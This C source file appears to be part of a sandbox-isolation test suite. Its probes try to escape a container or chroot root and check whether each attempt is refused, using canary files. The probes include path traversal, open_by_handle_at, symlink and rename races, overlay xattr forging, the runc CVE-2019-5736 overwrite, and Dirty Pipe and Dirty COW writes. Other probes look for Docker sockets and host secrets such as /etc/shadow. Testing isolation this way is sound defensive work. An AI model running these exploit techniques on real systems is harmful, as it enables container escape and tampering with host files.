/* Walking out of the root: by paths, handles, links, races of renames; and what an overlay keeps to itself. */
#define _GNU_SOURCE
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static void host_file(void)
{
    open_or_answer(told("CANARY_FILE"), O_RDONLY);
    succeeded("opened");
}

static void dot_dot(void)
{
    char path[512];

    if (chdir("/usr/bin") != 0)
        inconclusive("chdir: %s", error_name(errno));
    snprintf(path, sizeof path, "../../../../../../../..%s", told("CANARY_FILE"));
    open_or_answer(path, O_RDONLY);
    succeeded("opened");
}

/* Up from a mounted directory, whose parent on the host is another. */
static void above_mount(void)
{
    char path[512];
    const char *canary = strrchr(told("CANARY_FILE"), '/');

    if (chdir(told("CANARY_MOUNT")) != 0)
        inconclusive("chdir: %s", error_name(errno));
    snprintf(path, sizeof path, "..%s", canary);
    open_or_answer(path, O_RDONLY);
    succeeded("opened");
}

static void old_root(void)
{
    static const char *const names[] = {"/.old", "/.old_root", "/old", "/put_old", "/.lower", "/.layer", "/.overlay"};

    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        DIR *directory = opendir(names[i]);
        if (directory != NULL)
            succeeded("%s", names[i]);
        if (errno != ENOENT)
            refused(errno);
    }
    absent(NULL);
}

/* With the old root, the host's files lie below it. */
static void old_root_file(void)
{
    char path[512];

    snprintf(path, sizeof path, "/.old%s", told("CANARY_FILE"));
    open_or_answer(path, O_RDONLY);
    succeeded("opened");
}

/* Any directory of another tree among the inherited descriptors would do as a way out; so would any other stranger. */
static void inherited_descriptors(void)
{
    char path[64], target[PATH_MAX];

    for (int fd = 3; fd < 512; fd++) {
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t length = readlink(path, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = '\0';
        if (strncmp(target, "pipe:", 5) != 0) /* The answer's own. */
            succeeded("%d is %s", fd, target);
    }
    absent(NULL);
}

/* "Shocker": handles name inodes of the whole filesystem, mounted or not. Inode 2 is the root of ext4. */
static void open_handle(void)
{
    struct {
        unsigned bytes;
        int type;
        uint32_t inode, generation;
    } handle = {.bytes = 8, .type = 1, .inode = 2}; /* FILEID_INO32_GEN */
    int mount = open_or_answer("/usr", O_RDONLY | O_DIRECTORY);

    judge(syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY), "opened");
}

static void name_handle(void)
{
    struct {
        unsigned bytes;
        int type;
        unsigned char handle[128];
    } handle = {.bytes = 128};
    int mount_id;

    judge(syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", &handle, &mount_id, 0), "named");
}

static void hard_link(void)
{
    judge(link("/usr/bin/passwd", scratch_path("passwd")), "linked");
}

static void symlink_to_host(void)
{
    const char *path = scratch_path("link");

    if (symlink(told("CANARY_FILE"), path) != 0)
        inconclusive("symlink: %s", error_name(errno));
    open_or_answer(path, O_RDONLY);
    succeeded("opened");
}

static void host_socket_file(void)
{
    struct stat status;

    if (stat(told("CANARY_SOCKET"), &status) == 0)
        succeeded("there");
    if (errno == ENOENT)
        absent(NULL);
    refused(errno);
}

static void container_sockets(void)
{
    static const char *const paths[] = {
        "/run/docker.sock",      "/var/run/docker.sock",  "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/run/dbus/system_bus_socket",
        "/run/systemd/private", "/run/user/0/bus",       "/tmp/.X11-unix/X0",
    };

    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++)
        if (access(paths[i], F_OK) == 0)
            succeeded("%s", paths[i]);
    absent(NULL);
}

static void host_secrets(void)
{
    static const char *const paths[] = {
        "/etc/shadow", "/etc/sudoers", "/etc/machine-id", "/root/.ssh", "/root/.bash_history", "/home/root", "/var/log", "/var/lib", "/boot", "/srv",
    };

    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++)
        if (access(paths[i], F_OK) == 0)
            succeeded("%s", paths[i]);
    absent(NULL);
}

/* ---- read-only places ---- */

static void write_system(void)
{
    open_or_answer("/usr/bin/env", O_WRONLY); /* Opened, never written. */
    succeeded("opened for writing");
}

/* Readable and writable by everybody on the host: only the mount says no. */
static void write_mount(void)
{
    open_or_answer(told("CANARY_MOUNTED_FILE"), O_WRONLY);
    succeeded("opened for writing");
}

static void change_mode_in_mount(void)
{
    judge(chmod(told("CANARY_MOUNTED_FILE"), 0666), "changed");
}

static void set_attribute_in_mount(void)
{
    judge(setxattr(told("CANARY_MOUNTED_FILE"), "user.warren", "1", 1, 0), "set");
}

static void map_mount_writable(void)
{
    int fd = open_or_answer(told("CANARY_MOUNTED_FILE"), O_RDONLY);
    void *map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);

    if (map == MAP_FAILED)
        inconclusive("mmap: %s", error_name(errno));
    judge(mprotect(map, 4096, PROT_READ | PROT_WRITE), "writable");
}

/* A file of the host's root with mode 0600, seen through a mount. */
static void private_file(void)
{
    open_or_answer(told("CANARY_PRIVATE_FILE"), O_RDONLY);
    succeeded("opened");
}

static void write_root(void)
{
    int fd = open("/attack", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);

    judge(fd, "created");
}

static void replace_passwd(void)
{
    open_or_answer("/etc/passwd", O_WRONLY);
    succeeded("opened for writing");
}

static void plant_in_device_directory(void)
{
    int fd = open("/dev/attack", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);

    judge(fd, "created");
}

/* Setuid programs of the host lose their power in here: the answer is the effective user one ends up as. */
static void host_setuid_program(void)
{
    static const char *const programs[] = {"/usr/bin/su", "/usr/bin/mount", "/usr/bin/passwd", "/usr/bin/chsh"};
    char path[64], line[128];
    unsigned real = 0, effective = 0;
    struct stat status;
    const char *program = NULL;

    for (size_t i = 0; i < sizeof programs / sizeof *programs && program == NULL; i++)
        if (stat(programs[i], &status) == 0 && (status.st_mode & S_ISUID))
            program = programs[i];
    if (program == NULL)
        absent("no setuid program");
    pid_t pid = fork();
    if (pid == 0) {
        int null = open("/dev/null", O_RDWR);
        for (int fd = 0; fd < 3; fd++)
            dup2(null, fd);
        execl(program, program, "--version", (char *)NULL);
        _exit(127);
    }
    siginfo_t info;
    if (waitid(P_PID, (id_t)pid, &info, WEXITED | WNOWAIT) != 0) /* A zombie still tells who it was. */
        inconclusive("waitid: %s", error_name(errno));
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *file = fopen(path, "re");
    while (file != NULL && fgets(line, sizeof line, file) != NULL)
        if (sscanf(line, "Uid: %u %u", &real, &effective) == 2)
            break;
    waitpid(pid, NULL, 0);
    if (effective == real && real == getuid())
        refused_as("unchanged");
    succeeded("effective user %u", effective);
}

/* ---- overlays ---- */

static const char *overlay_path(const char *name)
{
    static char path[64];

    if (access("/workspace", W_OK) != 0)
        inconclusive("no workspace");
    snprintf(path, sizeof path, "/workspace/%s", name);
    return path;
}

static void whiteout_node(void)
{
    judge(mknod(overlay_path("whiteout"), S_IFCHR | 0600, makedev(0, 0)), "made");
}

static void whiteout_rename(void)
{
    char from[64];

    snprintf(from, sizeof from, "%s", overlay_path("from"));
    close(open(from, O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
    judge(syscall(SYS_renameat2, AT_FDCWD, from, AT_FDCWD, overlay_path("to"), 4), "renamed"); /* RENAME_WHITEOUT */
}

static void opaque_trusted(void)
{
    const char *path = overlay_path("directory");

    if (mkdir(path, 0700) != 0 && errno != EEXIST)
        inconclusive("mkdir: %s", error_name(errno));
    judge(setxattr(path, "trusted.overlay.opaque", "y", 1, 0), "set");
}

/* What an overlay writes about itself into its layer is called user.overlay.*: forged, it would hide files or show others. */
static void forge_overlay(void)
{
    const char *path = overlay_path("forged");

    if (mkdir(path, 0700) != 0 && errno != EEXIST)
        inconclusive("mkdir: %s", error_name(errno));
    if (setxattr(path, "user.overlay.opaque", "y", 1, 0) != 0 || setxattr(path, "user.overlay.redirect", "/etc", 4, 0) != 0)
        refused(errno);
    succeeded("set"); /* As what, the host looks up in the layer. */
}

/* The binary of a process of the host's making, CVE-2019-5736: writes the byte that is there already. */
static void overwrite_binary(void)
{
    char path[64], byte;

    snprintf(path, sizeof path, "/proc/%ld/exe", told_number("TARGET_PID"));
    for (int i = 0; i < 200 && access(path, R_OK) != 0; i++) /* Until it executes, it is a copy of pid 1 and closed. */
        usleep(5000);
    int fd = open_or_answer(path, O_RDONLY);
    if (pread(fd, &byte, 1, 0) != 1)
        refused(errno);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int writable = open(path, O_WRONLY | O_CLOEXEC);
    if (writable < 0)
        refused(errno);
    judge(pwrite(writable, &byte, 1, 0), "written");
}

/* ---- races ---- */

/* Reaches for a file through a directory that becomes a link to the outside and back all the time. */
static void swap_race(void)
{
    char directory[128], link_path[128], file[PATH_MAX + 128], canary[PATH_MAX];
    const char *slash;
    struct timespec start, now;

    snprintf(canary, sizeof canary, "%s", told("CANARY_FILE"));
    slash = strrchr(canary, '/');
    snprintf(directory, sizeof directory, "%s", scratch_path("directory"));
    snprintf(link_path, sizeof link_path, "%s", scratch_path("swap"));
    snprintf(file, sizeof file, "%s%s", directory, slash);
    canary[slash - canary] = '\0';
    if (mkdir(directory, 0700) != 0 || symlink(canary, link_path) != 0)
        inconclusive("set-up: %s", error_name(errno));
    pid_t swapper = fork();
    if (swapper == 0)
        for (;;)
            syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link_path, 2); /* RENAME_EXCHANGE */
    clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        for (int i = 0; i < 200; i++)
            if (open(file, O_RDONLY | O_CLOEXEC) >= 0)
                succeeded("opened");
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < 50);
    kill(swapper, SIGKILL);
    absent(NULL);
}

/* Moves the working directory away under itself while walking up: a `..` that is resolved meanwhile must not pass the root. */
static void rename_race(void)
{
    char deep[128], moved[128], inner[160], target[160], canary[PATH_MAX];
    struct timespec start, now;

    snprintf(deep, sizeof deep, "%s", scratch_path("a"));
    snprintf(moved, sizeof moved, "%s", scratch_path("b"));
    snprintf(inner, sizeof inner, "%s/c", deep);
    snprintf(canary, sizeof canary, "../../../../..%s", told("CANARY_FILE"));
    if (mkdir(deep, 0700) != 0 || mkdir(inner, 0700) != 0 || mkdir(moved, 0700) != 0 || chdir(inner) != 0)
        inconclusive("set-up: %s", error_name(errno));
    snprintf(target, sizeof target, "%s/c", moved);
    pid_t mover = fork();
    if (mover == 0)
        for (;;) {
            rename(inner, target);
            rename(target, inner);
        }
    clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        for (int i = 0; i < 200; i++)
            if (open(canary, O_RDONLY | O_CLOEXEC) >= 0)
                succeeded("opened");
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < 50);
    kill(mover, SIGKILL);
    absent(NULL);
}

/* ---- writing to pages that may only be read ---- */

/* CVE-2022-0847: a pipe that still thinks it may write into the page cache of a file. */
static void dirty_pipe(void)
{
    char before[16], after[16], buffer[4096] = {0};
    int ends[2], fd = open_or_answer(told("CANARY_MOUNTED_FILE"), O_RDONLY);
    loff_t offset = 0;

    if (pread(fd, before, sizeof before, 0) != sizeof before || pipe2(ends, O_CLOEXEC) != 0)
        inconclusive("set-up: %s", error_name(errno));
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= (int)sizeof buffer) /* Leaves the flag that lets writes merge on every buffer. */
        if (write(ends[1], buffer, sizeof buffer) < 0 || read(ends[0], buffer, sizeof buffer) < 0)
            inconclusive("pipe: %s", error_name(errno));
    if (splice(fd, &offset, ends[1], NULL, 1, 0) != 1 || write(ends[1], "DIRTY", 5) != 5)
        inconclusive("splice: %s", error_name(errno));
    if (pread(fd, after, sizeof after, 0) != sizeof after)
        inconclusive("read: %s", error_name(errno));
    if (memcmp(before, after, sizeof before) == 0)
        refused_as("unchanged");
    succeeded("changed");
}

/* CVE-2016-5195: a write through /proc/self/mem races with the kernel giving up the private copy. */
static void dirty_cow(void)
{
    char before[16], after[16];
    int fd = open_or_answer(told("CANARY_MOUNTED_FILE"), O_RDONLY), memory = open_or_answer("/proc/self/mem", O_RDWR);
    char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);

    if (map == MAP_FAILED || pread(fd, before, sizeof before, 0) != sizeof before)
        inconclusive("set-up: %s", error_name(errno));
    for (int i = 0; i < 500; i++) {
        (void)pwrite(memory, "DIRTY", 5, (off_t)(uintptr_t)map);
        madvise(map, 4096, MADV_DONTNEED);
    }
    if (pread(fd, after, sizeof after, 0) != sizeof after)
        inconclusive("read: %s", error_name(errno));
    if (memcmp(before, after, sizeof before) == 0)
        refused_as("unchanged");
    succeeded("changed");
}

const struct attempt root_attempts[] = {
    {"root-host-file", host_file},
    {"root-dot-dot", dot_dot},
    {"root-above-mount", above_mount},
    {"root-old-root", old_root},
    {"root-old-root-file", old_root_file},
    {"root-inherited-descriptors", inherited_descriptors},
    {"root-open-handle", open_handle},
    {"root-name-handle", name_handle},
    {"root-hard-link", hard_link},
    {"root-symlink", symlink_to_host},
    {"root-host-socket", host_socket_file},
    {"root-service-sockets", container_sockets},
    {"root-host-secrets", host_secrets},
    {"root-write-system", write_system},
    {"root-write-mount", write_mount},
    {"root-chmod-mount", change_mode_in_mount},
    {"root-xattr-mount", set_attribute_in_mount},
    {"root-map-mount", map_mount_writable},
    {"root-private-file", private_file},
    {"root-write-root", write_root},
    {"root-write-passwd", replace_passwd},
    {"root-plant-device-file", plant_in_device_directory},
    {"root-setuid-program", host_setuid_program},
    {"overlay-whiteout-node", whiteout_node},
    {"overlay-whiteout-rename", whiteout_rename},
    {"overlay-opaque-trusted", opaque_trusted},
    {"overlay-forge", forge_overlay},
    {"root-overwrite-binary", overwrite_binary},
    {"race-swap", swap_race},
    {"race-rename", rename_race},
    {"kernel-dirty-pipe", dirty_pipe},
    {"kernel-dirty-cow", dirty_cow},
    {NULL, NULL},
};
